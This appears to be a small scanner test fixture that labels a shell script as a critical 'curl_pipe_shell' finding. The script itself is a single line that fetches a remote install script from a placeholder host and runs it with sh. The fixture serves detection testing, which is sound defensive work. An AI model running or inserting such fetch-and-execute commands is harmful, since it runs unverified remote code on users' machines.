# expect: shell.curl_pipe_shell critical
# path: scripts/c.sh
#!/bin/sh
sh -c "$(curl -fsSL https://get.example.net/install)"
